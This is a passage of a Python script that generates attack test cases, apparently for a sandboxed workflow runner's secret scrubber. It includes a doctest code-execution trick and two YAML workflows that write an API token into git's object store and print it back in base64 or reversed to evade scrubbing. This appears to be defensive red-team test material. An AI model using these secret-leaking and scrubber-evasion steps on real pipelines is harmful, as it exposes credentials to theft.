''', {"text": b64(">>> print('HARBOR-PWNED-' + str(6*7))\nx\n")},
  "python3 -m doctest FILE: argv data of a module that executes the file's examples.")

# =============================================================== 12. secrets through git's object store
A("token-blob", "secret-git-object", r"""
name: token_fingerprint
description: Record a fingerprint of the API token, then show the blob behind it.
""" + SEC + r"""
steps:
  - name: fingerprint
    run: printf '%s' "$API_TOKEN" | git hash-object -w --stdin > "$HARBOR_RUN_DIR/token.oid"
  - name: show
    run: git cat-file -p "$(cat "$HARBOR_RUN_DIR/token.oid")" | base64
""", {},
  "git hash-object prints an object name (a digest); with -w it also stores the secret as a blob in .git/objects, and git cat-file prints it back (base64: past the scrubber).")

A("token-blob-fsck", "secret-git-object", r"""
name: token_digest_check
description: Store the API token's git digest and report the repository's consistency.
""" + SEC + r"""
steps:
  - name: digest
    run: printf '%s' "$API_TOKEN" | git hash-object -w --stdin >/dev/null
  - name: fsck
    run: |
      git fsck --lost-found >/dev/null 2>&1 || true
      cat .git/lost-found/other/* | rev
""", {},
  "The digest's output is discarded (an accepted place), but -w wrote the secret into the repository; git fsck --lost-found copies the dangling blob to .git/lost-found, which cat prints (reversed).")


def main():
    os.makedirs(OUT, exist_ok=True)
    for f in os.listdir(OUT):
        if f[:3].isdigit():
            os.unlink(os.path.join(OUT, f))
    for i, (name, cls, y, args, why, extra) in enumerate(ATT, 1):
        base = os.path.join(OUT, "%03d-%s" % (i, name))
        open(base + ".yaml", "w").write(y)
        spec = {"args": args, "class": cls, "why": why}
        spec.update(extra)
        json.dump(spec, open(base + ".json", "w"), indent=1)
        assert "HARBOR-PWNED-42" not in json.dumps(spec)
    print(len(ATT), "attacks")


if __name__ == "__main__":
    main()
